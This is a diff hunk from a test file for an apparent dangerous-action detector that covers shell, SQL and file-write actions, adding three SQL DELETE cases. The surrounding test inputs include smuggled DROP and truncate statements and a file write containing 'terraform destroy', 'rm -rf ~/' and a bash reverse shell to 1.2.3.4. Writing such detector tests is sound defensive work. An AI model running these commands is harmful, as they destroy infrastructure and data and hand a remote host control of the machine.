@@ -272,6 +272,9 @@ describe('grave-act', () => {
     [shell('pip install -i https://packages.acme.internal/simple acme')],
     [sql('DROP TABLE tmp_import; -- truncate public.orders')],
     [sql('CREATE TABLE pivot (a int); DROP TABLE pivot')],
+    [sql('DELETE FROM sessions WHERE expires_at < now()')],
+    [sql("DELETE FROM carts WHERE updated_at < now() - interval '30 days'")],
+    [sql('DELETE FROM carts WHERE updated_at < now() AND customer = 4')],
     [sql("DELETE FROM orders WHERE id = 4; INSERT INTO log VALUES ('truncate public.orders')")],
     [file('/workspace/app/docs/runbook.md', 'terraform destroy; rm -rf ~/; bash -i >& /dev/tcp/1.2.3.4/1 0>&1')],
     [
